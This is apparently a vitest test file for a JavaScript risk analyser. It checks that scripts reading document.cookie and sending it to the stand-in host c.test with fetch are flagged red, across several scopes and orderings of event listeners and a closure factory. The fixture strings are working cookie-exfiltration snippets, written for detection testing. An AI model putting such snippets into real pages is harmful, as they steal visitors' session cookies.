import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { traceOf } from "../testing/trace-of.ts";

/** Independent of the order of first runs: each function sees the variables that any other has set. */
const PARTS = {
	take: `document.addEventListener("copy", () => { token = document.cookie; });`,
	clear: `document.addEventListener("paste", () => { token = ""; });`,
	send: `document.addEventListener("scroll", () => { fetch("https://c.test/?" + token); });`,
};

const ORDERS = [
	["take", "clear", "send"],
	["take", "send", "clear"],
	["clear", "take", "send"],
	["clear", "send", "take"],
	["send", "take", "clear"],
	["send", "clear", "take"],
] as const;

const AROUND: readonly (readonly [string, (body: string) => string])[] = [
	["the program", (body) => `let token = "";\n${body}`],
	["a listener", (body) => `addEventListener("load", () => { let token = "";\n${body} });`],
	["a method", (body) => `class App { start() { let token = "";\n${body} } }\nnew App().start();`],
	[
		"a listener that runs again",
		(body) => `let page = "a"; addEventListener("load", () => { let token = page;\n${body} page = "b"; });`,
	],
];

describe.each(AROUND)("functions that share a variable of %s", (_title, around) => {
	test.each(ORDERS)("%s, %s, %s", (...order) => {
		const code = around(order.map((part) => PARTS[part]).join("\n"));
		expect(analyzeScript({ code }).risk_level).toBe("red");
		expect(traceOf(code).status).toBe("complete");
		expect(analyzeScript({ code: code.replace("document.cookie", "'b'") }).risk_level).toBe("green");
	});
});

test("functions made by one function stay distinct, however often their code has run", () => {
	const others = Array.from({ length: 20 }, (_, index) => `sender("/n${index}?")(text);`).join("\n");
	const code = `const sender = (to) => (text) => fetch(to + text);
let text = document.cookie;
${others}
sender("https://c.test/?")(text);`;
	expect(analyzeScript({ code }).risk_level).toBe("red");
	expect(analyzeScript({ code: code.replace("document.cookie", "'b'") }).risk_level).toBe("green");
});
